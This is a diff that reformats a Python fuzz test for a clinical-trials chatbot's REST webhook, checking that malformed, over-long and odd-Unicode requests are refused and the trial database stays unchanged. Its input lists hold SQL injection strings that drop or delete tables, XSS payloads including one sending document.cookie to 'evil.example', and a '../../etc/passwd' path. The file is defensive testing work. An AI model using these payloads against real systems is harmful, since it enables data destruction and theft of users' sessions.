@@ -9,6 +9,7 @@ Runs in about three minutes: most requests are refused before the model (cheap);
 model reads are capped by MODEL_EXAMPLES. Generation is derandomised and hypothesis keeps no
 example database, so every run sends the same requests.
 """
+
 from __future__ import annotations
 
 import hashlib
@@ -31,37 +32,56 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from bot.ratelimit import per_minute_from_env
-from components.channels.rest import (MAX_BODY_BYTES, MAX_MESSAGE_CHARS, TOO_LONG_TEXT, BadRequest,
-                                      HardenedRestInput, clean_text, parse_body, rate_limited_text)
+from components.channels.rest import (
+    MAX_BODY_BYTES,
+    MAX_MESSAGE_CHARS,
+    TOO_LONG_TEXT,
+    BadRequest,
+    HardenedRestInput,
+    clean_text,
+    parse_body,
+    rate_limited_text,
+)
 from tests.conftest import ARTIFACTS_DIR
 from tests.servers import say, texts
 
 pytestmark = pytest.mark.integration
 
 WEBHOOK = "/webhooks/rest/webhook"
-MODEL_EXAMPLES = 350        # text messages the model reads (the slow part: ~0.1-0.3 s each)
-REFUSED_EXAMPLES = 1500     # malformed bodies, refused before the model (a few ms each)
-LONG_EXAMPLES = 150         # over-long messages: a kind reply, never the model
-WARM_UP_REQUESTS = 200      # memory is compared from the end of these to the last request
+MODEL_EXAMPLES = 350  # text messages the model reads (the slow part: ~0.1-0.3 s each)
+REFUSED_EXAMPLES = 1500  # malformed bodies, refused before the model (a few ms each)
+LONG_EXAMPLES = 150  # over-long messages: a kind reply, never the model
+WARM_UP_REQUESTS = 200  # memory is compared from the end of these to the last request
 MIN_REQUESTS = 2000
 # The in-memory tracker store keeps every conversation, so the Rasa process may grow by what the
 # model-read messages add (each turn stores the parse result and the replies); refusals must
 # add nothing. Measured: well under 10 MB for the whole run (see the summary artifact).
 RSS_BOUND_MB = 60
 REFUSAL_RSS_BOUND_MB = 8
-GAP_MARK = "zqxjfuzzmark"   # a nonsense word: a message holding it that reached the model is logged as a gap
+GAP_MARK = "zqxjfuzzmark"  # a nonsense word: a message holding it that reached the model is logged as a gap
 
 SQL = [
-    "'; DROP TABLE trials; --", "1' OR '1'='1", "\" OR \"\"=\"", "lutathera'); DELETE FROM trials;--",
-    "UNION SELECT nct_id, title FROM trials--", "%' AND 1=0 UNION SELECT sqlite_version()--",
-    "1; UPDATE trials SET status='CLOSED'", "Robert'); DROP TABLE content_gaps;--",
-    "everolimus\\'; SELECT pg_sleep(10);--", "' OR 1=1 LIMIT 1 OFFSET 1 --",
+    "'; DROP TABLE trials; --",
+    "1' OR '1'='1",
+    '" OR ""="',
+    "lutathera'); DELETE FROM trials;--",
+    "UNION SELECT nct_id, title FROM trials--",
+    "%' AND 1=0 UNION SELECT sqlite_version()--",
+    "1; UPDATE trials SET status='CLOSED'",
+    "Robert'); DROP TABLE content_gaps;--",
+    "everolimus\\'; SELECT pg_sleep(10);--",
+    "' OR 1=1 LIMIT 1 OFFSET 1 --",
 ]
 HTML = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert('x')>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert('x')>",
     "\"><script>document.location='http://evil.example/'+document.cookie</script>",
-    "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">lutathera</a>",
-    "</textarea><script>fetch('/x')</script>", "{{7*7}} ${7*7} <%= 7*7 %>", "<b onmouseover=alert(1)>hi</b>",
+    "<iframe src=javascript:alert(1)>",
+    '<a href="javascript:alert(1)">lutathera</a>',
+    "</textarea><script>fetch('/x')</script>",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "<b onmouseover=alert(1)>hi</b>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
 ]
 MARKUP = ("<script", "onerror=", "onload=", "javascript:", "<iframe")
@@ -80,15 +100,47 @@ LANGUAGES = [
     "ท่านมีการทดลองทางคลินิกไหม",  # Thai
 ]
 EMOJI = ["🙂", "😢💔", "👩🏽‍⚕️", "🏳️‍🌈", "🇬🇧", "❤️‍🔥", "🧬💊🏥", "\u200d", "🫠" * 40, "👍🏿"]
-ODD = ["\x00", "\x00hello", "he\x07llo\x1b[31m", "\r\n\r\n", "\t", "\u202eevil\u202c", "\ufeff", "\ud800",
-       "\udfff lutathera", "\uffff", "\U0010ffff", "a\u0301\u0301\u0301", "Ω≈ç√∫˜µ≤≥÷", " " * 50, "\x7f\x85\x9f"]
-CONTENT_TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded", None,
-                 "application/json; charset=latin-1"]
-INVALID_UTF8 = [b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\x28",
-                b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xef\xbf"]
+ODD = [
+    "\x00",
+    "\x00hello",
+    "he\x07llo\x1b[31m",
+    "\r\n\r\n",
+    "\t",
+    "\u202eevil\u202c",
+    "\ufeff",
+    "\ud800",
+    "\udfff lutathera",
+    "\uffff",
+    "\U0010ffff",
+    "a\u0301\u0301\u0301",
+    "Ω≈ç√∫˜µ≤≥÷",
+    " " * 50,
+    "\x7f\x85\x9f",
+]
+CONTENT_TYPES = [
+    "application/json",
+    "text/plain",
+    "application/x-www-form-urlencoded",
+    None,
+    "application/json; charset=latin-1",
+]
+INVALID_UTF8 = [
+    b"\xff",
+    b"\xfe\xff",
+    b"\xc3\x28",
+    b"\xa0\xa1",
+    b"\xe2\x28\xa1",
+    b"\xf0\x28\x8c\x28",
+    b"\xed\xa0\x80",
+    b"\xc0\xaf",
+    b"\xf8\x88\x80\x80\x80",
+    b"\x80",
+    b"\xef\xbf",
+]
 
 
 # --- sending raw requests ----------------------------------------------------------------------
+
 
 @dataclass
 class Answer:
@@ -118,8 +170,9 @@ class Tally:
 TALLY = Tally()
 
 
-def post(base: str, body: bytes, kind: str, content_type: Optional[str] = "application/json",
-         query: str = "") -> Answer:
+def post(
+    base: str, body: bytes, kind: str, content_type: Optional[str] = "application/json", query: str = ""
+) -> Answer:
     url = urlsplit(base)
     conn = http.client.HTTPConnection(url.hostname, url.port, timeout=120)
     headers = {"Content-Type": content_type} if content_type else {}
@@ -137,8 +190,10 @@ def post_huge(base: str, size: int) -> Answer:
     """A body larger than the limit, over a raw socket: the server may answer 413 before the
     body is sent, then close the connection, so a reset while sending is a refusal too."""
     url = urlsplit(base)
-    head = (f"POST {WEBHOOK} HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/json\r\n"
-            f"Content-Length: {size}\r\nConnection: close\r\n\r\n").encode()
+    head = (
+        f"POST {WEBHOOK} HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/json\r\n"
+        f"Content-Length: {size}\r\nConnection: close\r\n\r\n"
+    ).encode()
     chunk = b'{"sender": "huge", "message": "' + b"a" * (64 * 1024)
     received = b""
     with socket.create_connection((url.hostname, url.port), timeout=60) as sock:
@@ -161,8 +216,14 @@ def post_huge(base: str, size: int) -> Answer:
             pass
     status = int(received.split(b" ", 2)[1]) if received.startswith(b"HTTP/1.1 ") else 0
     header, _, body = received.partition(b"\r\n\r\n")
-    content_type = next((line.split(b":", 1)[1].strip().decode() for line in header.split(b"\r\n")
-                         if line.lower().startswith(b"content-type:")), "")
+    content_type = next(
+        (
+            line.split(b":", 1)[1].strip().decode()
+            for line in header.split(b"\r\n")
+            if line.lower().startswith(b"content-type:")
+        ),
+        "",
+    )
     TALLY.add("huge", status)
     return Answer(status, content_type, body)
 
@@ -202,6 +263,7 @@ def assert_refused(answer: Answer, statuses: Tuple[int, ...] = (400,)) -> str:
 
 # --- the Rasa process: pid, memory, database -----------------------------------------------
 
+
 def listening_pid(port: int) -> int:
     """The process listening on 127.0.0.1:`port`, found through /proc (socket inode)."""
     inodes = set()
@@ -239,8 +301,11 @@ def process_env(pid: int) -> Dict[str, str]:
 def trial_tables_digest(db: Path) -> Dict[str, str]:
     """A digest of every table but the content-gap log (which the fallback writes on purpose)."""
     with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
-        names = [n for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
-                 if n != "content_gaps"]
+        names = [
+            n
+            for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
+            if n != "content_gaps"
+        ]
         digests = {}
         for name in names:
             rows = sorted(repr(row) for row in conn.execute(f'SELECT * FROM "{name}"'))
@@ -265,8 +330,16 @@ class Target:
     gaps_before: int
 
 
-WARM_UP = ["hello", "are there any lutathera trials", "what is a neuroendocrine tumour", "can i speak to a nurse",
-           "show me open trials", "what's the best banana bread recipe", "tell me about NCT07273409", "thanks"]
+WARM_UP = [
+    "hello",
+    "are there any lutathera trials",
+    "what is a neuroendocrine tumour",
+    "can i speak to a nurse",
+    "show me open trials",
+    "what's the best banana bread recipe",
+    "tell me about NCT07273409",
+    "thanks",
+]
 
 
 def warm_up(base: str, requests: int) -> None:
@@ -284,7 +357,7 @@ def target(assistant: str) -> Iterator[Target]:
     pid = listening_pid(urlsplit(assistant).port or 80)
     url = process_env(pid).get("DATABASE_URL", "")
     assert url.startswith("sqlite:///"), "the fuzz test reads the assistant's SQLite trial database"
-    db = Path(url[len("sqlite:///"):])
+    db = Path(url[len("sqlite:///") :])
     found = Target(assistant, pid, db, trial_tables_digest(db), len(gap_texts(db)))
     warm_up(assistant, WARM_UP_REQUESTS)
     TALLY.rss_kb["after_warm_up"] = rss_kb(pid)
@@ -293,16 +366,26 @@ def target(assistant: str) -> Iterator[Target]:
 
 # --- the parsing on its own (no server) ----------------------------------------------------------
 
+
 def test_parse_body_cleans_text_and_names_what_is_wrong() -> None:
-    assert parse_body(b'{"sender": "a-1:b.c_d", "message": "hi\\u0000 there\\r\\n\\u202e\\ud800"}').text == \
-        "hi there\n\ufffd"
+    assert (
+        parse_body(b'{"sender": "a-1:b.c_d", "message": "hi\\u0000 there\\r\\n\\u202e\\ud800"}').text
+        == "hi there\n\ufffd"
+    )
     assert clean_text("\U0001f469\u200d\u2695\ufe0f caf\u00e9\t\x07") == "\U0001f469\u200d\u2695\ufe0f caf\u00e9\t"
-    cases = {b"": "empty", b"\xff": "UTF-8", b"{": "not valid JSON", b"[1]": "JSON object",
-             b'{"message": "hi"}': '"sender" is missing', b'{"sender": "a b", "message": "hi"}': "1 to 128",
-             b'{"sender": 7, "message": "hi"}': '"sender" must be a string', b'{"sender": "a"}': '"message" is missing',
-             b'{"sender": "a", "message": 3}': '"message" must be a string',
-             b'{"sender": "a", "message": "\\u0000"}': "empty",
-             b"[" * 100_000: "not valid JSON"}
+    cases = {
+        b"": "empty",
+        b"\xff": "UTF-8",
+        b"{": "not valid JSON",
+        b"[1]": "JSON object",
+        b'{"message": "hi"}': '"sender" is missing',
+        b'{"sender": "a b", "message": "hi"}': "1 to 128",
+        b'{"sender": 7, "message": "hi"}': '"sender" must be a string',
+        b'{"sender": "a"}': '"message" is missing',
+        b'{"sender": "a", "message": 3}': '"message" must be a string',
+        b'{"sender": "a", "message": "\\u0000"}': "empty",
+        b"[" * 100_000: "not valid JSON",
+    }
     for body, reason in cases.items():
         with pytest.raises(BadRequest, match=reason):
             parse_body(body)
@@ -316,41 +399,87 @@ def test_rate_limit_refusals_are_logged_as_a_count_a_minute(caplog: pytest.LogCa
         for _ in range(50):
             channel.note_rate_limited()
     assert [r.getMessage() for r in caplog.records] == [
-        "REST webhook: 1 message(s) refused by the rate limit since the last report"]
+        "REST webhook: 1 message(s) refused by the rate limit since the last report"
+    ]
 
 
-FUZZ = settings(deadline=None, database=None, derandomize=True, print_blob=False,
-                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
-                                       HealthCheck.filter_too_much, HealthCheck.large_base_example])
+FUZZ = settings(
+    deadline=None,
+    database=None,
+    derandomize=True,
+    print_blob=False,
+    suppress_health_check=[
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+        HealthCheck.filter_too_much,
+        HealthCheck.large_base_example,
+    ],
+)
 
 
 # --- refused before the model ------------------------------------------------------------------
 
+
 def json_values() -> st.SearchStrategy:
     scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
     return st.recursive(
-        scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
-        max_leaves=10)
+        scalars,
+        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
+        max_leaves=10,
+    )
 
 
 bad_senders = st.one_of(
-    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.lists(st.text(max_size=5), max_size=3),
-    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2), st.just(""),
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.floats(allow_nan=False),
+    st.lists(st.text(max_size=5), max_size=3),
+    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
+    st.just(""),
     st.text(min_size=129, max_size=300, alphabet="abc123"),
     st.text(min_size=1, max_size=40).filter(lambda s: not all(c.isascii() and (c.isalnum() or c in "_.:-") for c in s)),
-    st.sampled_from(["../../etc/passwd", "a b", "me\n", "<script>", "'; DROP TABLE events;--", "someone@example.org",
-                     "\x00", "🙂", "ä"]),
+    st.sampled_from(
+        [
+            "../../etc/passwd",
+            "a b",
+            "me\n",
+            "<script>",
+            "'; DROP TABLE events;--",
+            "someone@example.org",
+            "\x00",
+            "🙂",
+            "ä",
+        ]
+    ),
 )
 bad_messages = st.one_of(
-    st.booleans(), st.integers(), st.floats(allow_nan=False), st.lists(st.text(max_size=5), max_size=3),
+    st.booleans(),
+    st.integers(),
+    st.floats(allow_nan=False),
+    st.lists(st.text(max_size=5), max_size=3),
     st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
-    st.sampled_from(["", "   ", "\x00\x01\x02", "\n\t\n", "\u202e", "\x7f"]))
+    st.sampled_from(["", "   ", "\x00\x01\x02", "\n\t\n", "\u202e", "\x7f"]),
+)
 
 
 @st.composite
 def malformed_bodies(draw: st.DrawFn) -> Tuple[str, bytes]:
-    kind = draw(st.sampled_from(["binary", "invalid_utf8", "broken_json", "not_object", "bad_sender",
-                                 "missing_sender", "bad_message", "deep", "empty"]))
+    kind = draw(
+        st.sampled_from(
+            [
+                "binary",
+                "invalid_utf8",
+                "broken_json",
+                "not_object",
+                "bad_sender",
+                "missing_sender",
+                "bad_message",
+                "deep",
+                "empty",
+            ]
+        )
+    )
     if kind == "binary":
         return kind, draw(st.binary(max_size=300))
     if kind == "invalid_utf8":
@@ -382,8 +511,11 @@ def malformed_bodies(draw: st.DrawFn) -> Tuple[str, bytes]:
     if kind == "bad_sender":
         return kind, body_of(draw(bad_senders), draw(st.text(min_size=1, max_size=20)))
     if kind == "missing_sender":
-        extra = draw(st.dictionaries(st.sampled_from(["Sender", "user", "sender_id", "metadata", "input_channel"]),
-                                     json_values(), max_size=3))
+        extra = draw(
+            st.dictionaries(
+                st.sampled_from(["Sender", "user", "sender_id", "metadata", "input_channel"]), json_values(), max_size=3
+            )
+        )
         return kind, body_of(None, draw(st.text(min_size=1, max_size=20)), **extra)
     if kind == "bad_message":
         return kind, json.dumps({"sender": new_sender("badmsg"), "message": draw(bad_messages)}).encode()
@@ -417,8 +549,13 @@ def test_huge_bodies_are_refused_without_reading_them(target: Target) -> None:
             assert b"larger than" in answer.body and answer.content_type.startswith("application/json")
     chunked = http.client.HTTPConnection(urlsplit(target.base).hostname, urlsplit(target.base).port, timeout=60)
     try:
-        chunked.request("POST", WEBHOOK, body=iter([b'{"sender": "chunked", "message": "'] + [b"a" * 65536] * 40),
-                        headers={"Content-Type": "application/json"}, encode_chunked=True)
+        chunked.request(
+            "POST",
+            WEBHOOK,
+            body=iter([b'{"sender": "chunked", "message": "'] + [b"a" * 65536] * 40),
+            headers={"Content-Type": "application/json"},
+            encode_chunked=True,
+        )
         status = chunked.getresponse().status
     except OSError:
         status = 0
@@ -434,7 +571,9 @@ long_texts = st.one_of(
     st.integers(min_value=MAX_MESSAGE_CHARS + 1, max_value=MAX_MESSAGE_CHARS + 5000).map(lambda n: "a" * n),
     st.sampled_from(["lutathera ", "有没有临床试验", "🙂", "<script>alert(1)</script>", "' OR 1=1 --", "\x00"]).flatmap(
         lambda piece: st.integers(MAX_MESSAGE_CHARS // len(piece) + 1, 100_000 // len(piece) + 1).map(
-            lambda n: piece * n)),
+            lambda n: piece * n
+        )
+    ),
     # Any text past the limit (Hypothesis draws texts only up to a few thousand characters).
     st.text(min_size=1, max_size=200).map(lambda tail: "x" * MAX_MESSAGE_CHARS + tail),
 )
@@ -466,8 +605,9 @@ model_texts = st.one_of(
     everything_text,  # any code point: controls, NUL, lone surrogates, private use, unassigned
     st.sampled_from(SQL + HTML + LANGUAGES + EMOJI + ODD),
     st.tuples(st.sampled_from(SQL + HTML + LANGUAGES), st.sampled_from(EMOJI + ODD)).map(" ".join),
-    st.lists(st.sampled_from(LANGUAGES + EMOJI + ["lutathera", "trial", "nurse", "hello"]), min_size=1, max_size=8)
-    .map(" ".join),
+    st.lists(st.sampled_from(LANGUAGES + EMOJI + ["lutathera", "trial", "nurse", "hello"]), min_size=1, max_size=8).map(
+        " ".join
+    ),
 )
 
 
@@ -500,6 +640,7 @@ def test_any_text_gets_replies_or_a_clear_400(target: Target) -> None:
 
 # --- the rate limit ----------------------------------------------------------------------------
 
+
 def test_a_sender_over_the_rate_limit_gets_a_429_and_a_kind_reply(target: Target) -> None:
     limit = per_minute_from_env(os.environ)  # the servers were started with this environment
     if limit == 0:
@@ -511,8 +652,12 @@ def test_a_sender_over_the_rate_limit_gets_a_429_and_a_kind_reply(target: Target
     url = urlsplit(target.base)
     conn = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
     try:
-        conn.request("POST", WEBHOOK, body=body_of(sender, f"hello {GAP_MARK} limited"),
-                     headers={"Content-Type": "application/json"})
+        conn.request(
+            "POST",
+            WEBHOOK,
+            body=body_of(sender, f"hello {GAP_MARK} limited"),
+            headers={"Content-Type": "application/json"},
+        )
         response = conn.getresponse()
         status, retry_after, body = response.status, response.getheader("Retry-After"), response.read()
     finally:
@@ -531,20 +676,25 @@ def test_a_sender_over_the_rate_limit_gets_a_429_and_a_kind_reply(target: Target
 
 # --- afterwards --------------------------------------------------------------------------------
 
+
 def test_after_the_fuzz_the_servers_still_work_and_nothing_else_changed(target: Target) -> None:
     reply = texts(say(target.base, new_sender("after"), "hello"))
     assert "0808 800 4040" in reply, reply
     assert trial_tables_digest(target.db) == target.tables_before, "the trial tables changed"
-    gaps = gap_texts(target.db)[target.gaps_before:]
+    gaps = gap_texts(target.db)[target.gaps_before :]
     for text in gaps:
         assert len(text) <= 1000, len(text)
         odd = [c for c in text if unicodedata.category(c) in ("Cc", "Cs") or "\u202a" <= c <= "\u202e"]
         assert not odd, repr(text[:80])
     rss = TALLY.rss_kb
     rss["after"] = rss_kb(target.pid)
-    summary = {"requests": TALLY.total, "statuses": dict(TALLY.statuses),
-               "by_kind": {k: dict(v) for k, v in TALLY.by_kind.items()},
-               "rss_kb": rss, "gaps_recorded": len(gaps)}
+    summary = {
+        "requests": TALLY.total,
+        "statuses": dict(TALLY.statuses),
+        "by_kind": {k: dict(v) for k, v in TALLY.by_kind.items()},
+        "rss_kb": rss,
+        "gaps_recorded": len(gaps),
+    }
     ARTIFACTS_DIR.mkdir(exist_ok=True)
     (ARTIFACTS_DIR / "fuzz-webhook-summary.json").write_text(json.dumps(summary, indent=2, sort_keys=True))
     print("\nfuzz summary:", json.dumps(summary, sort_keys=True))
